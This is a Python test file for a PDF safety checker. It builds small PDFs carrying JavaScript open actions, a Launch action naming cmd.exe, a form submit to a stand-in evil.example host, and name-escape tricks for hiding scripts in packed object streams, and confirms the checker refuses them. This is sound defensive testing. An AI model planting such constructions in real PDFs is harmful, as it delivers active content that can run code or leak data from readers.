"""PDFs that do more than show pages, in every way of writing that down, and those that are none."""

import zlib
from collections.abc import Callable

import pytest
import typst

from shared.pdf_checks import NotTaken, check_pdf
from tests.support.images import PDF

SCRIPT = b"<</S/JavaScript/JS(app.alert(1))>>"
NEEDS = "does more than show pages"


def pdf(catalog: bytes = b"", other: bytes = b"") -> bytes:
    """A whole PDF of one empty page, with more in its catalogue, and other objects behind it."""
    objects = [
        b"<</Type/Catalog/Pages 2 0 R" + catalog + b">>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    ]
    body = b"%PDF-1.7\n" + b"".join(b"%d 0 obj\n%b\nendobj\n" % one for one in enumerate(objects, start=1)) + other
    return body + b"xref\n0 4\ntrailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(body)


def packed(content: bytes, *, told: bytes = b"/Type/ObjStm", way: bytes = b"/Filter/FlateDecode") -> bytes:
    """An object that holds other objects, packed."""
    stream = zlib.compress(content)
    head = b"9 0 obj\n<<%b/N 1/First 4%b/Length %d>>\nstream\r\n" % (told, way, len(stream))
    return head + stream + b"\nendstream\nendobj\n"


def as_a_picture(content: bytes) -> bytes:
    """A stream that nobody looks into: what is in it is no object."""
    return b"9 0 obj\n<</Subtype/Image/Length %d>>\nstream\n%b\nendstream\nendobj\n" % (len(content), content)


@pytest.mark.parametrize(
    "whole",
    [
        PDF,
        pdf(),
        pdf(other=packed(b"1 0 <</Type/Font>>")),
        pdf(b"/AA<<>>/OpenAction[3 0 R/Fit]/Names<</Dests<<>>>>"),
        pdf(other=as_a_picture(zlib.compress(SCRIPT))),
        pdf(b"/Title(About JavaScript, Launch and XFA)"),
        typst.compile(b"= Insurance\n#link('https://porch.example')[Look]".replace(b"'", b'"'), pdf_tags=True),
    ],
    ids=["small", "plain", "packed objects", "actions that turn pages", "picture", "words", "typst"],
)
def test_one_that_shows_pages_is_taken(whole: bytes) -> None:
    check_pdf(whole)


@pytest.mark.parametrize(
    "raw",
    [
        pdf(b"/OpenAction" + SCRIPT),
        pdf(b"/OpenAction<</S /JavaScript /JS 9 0 R>>"),
        pdf(b"/OpenAction<</S/J#61va#53cript/JS(x)>>"),
        pdf(b"/Names<</JavaScript<</Names[(a) 9 0 R]>>>>"),
        pdf(b"/OpenAction<</S/Launch/F(cmd.exe)>>"),
        pdf(b"/AcroForm<</XFA[(a)9 0 R]>>"),
        pdf(b"/AA<</O<</S/SubmitForm/F(https://evil.example)>>>>"),
        pdf(b"/AA<</O<</S/ImportData/F(x)>>>>"),
        pdf(other=packed(b"1 0 " + SCRIPT)),
        pdf(other=packed(b"1 0 " + SCRIPT, told=b"")),
        pdf(other=packed(b"1 0 " + SCRIPT, told=b"/Type/Obj#53tm", way=b"/Filter[/FlateDecode]")),
        pdf(other=packed(b"1 0 <</S/L#61unch>>")),
    ],
)
def test_whatever_it_does_beside_that_is_found(raw: bytes) -> None:
    with pytest.raises(NotTaken, match=NEEDS):
        check_pdf(raw)


@pytest.mark.parametrize(
    ("change", "why"),
    [
        (lambda raw: raw[:-8], "cut short"),
        (lambda raw: raw + b"<script>alert(1)</script>", "something else behind its end"),
        (lambda raw: raw + b"PK\x03\x04", "something else behind its end"),
        (lambda _: b"%PDF-<script>alert(1)</script>\nstartxref\n9\n%%EOF", "no whole PDF"),
        (lambda raw: raw.replace(b"startxref\n", b"startxref\n9"), "no whole PDF"),
        (lambda raw: raw.replace(b"/Root", b"/Encrypt 8 0 R/Root"), "protected by a password"),
        (lambda _: pdf(other=packed(bytes(40_000_000))), "too large to be looked through"),
        (lambda _: pdf(other=packed(b"x", way=b"/Filter[/ASCIIHexDecode/FlateDecode]")), "cannot be looked through"),
        (lambda _: pdf(other=packed(b"x", way=b"")), "cannot be looked through"),
        (lambda _: pdf(other=packed(b"x").replace(b"stream\r\nx", b"stream\r\n?", 1)), "a part that cannot be read"),
    ],
)
def test_what_is_no_whole_and_open_pdf_is_refused(change: Callable[[bytes], bytes], why: str) -> None:
    with pytest.raises(NotTaken, match=why):
        check_pdf(change(pdf()))
